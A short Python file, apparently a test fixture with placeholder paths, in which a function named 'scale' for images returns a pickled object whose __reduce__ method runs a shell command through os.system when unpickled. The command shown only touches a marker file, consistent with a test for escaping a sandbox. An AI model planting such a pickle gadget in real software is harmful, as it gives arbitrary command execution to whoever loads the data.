import os
import pickle

import numpy as np


class Payload:
    def __reduce__(self):
        return os.system, ("touch @OUTSIDE@/@MARK@-pickle",)


def scale(images):
    return pickle.dumps(Payload())


def total(numbers):
    return int(numbers.sum())
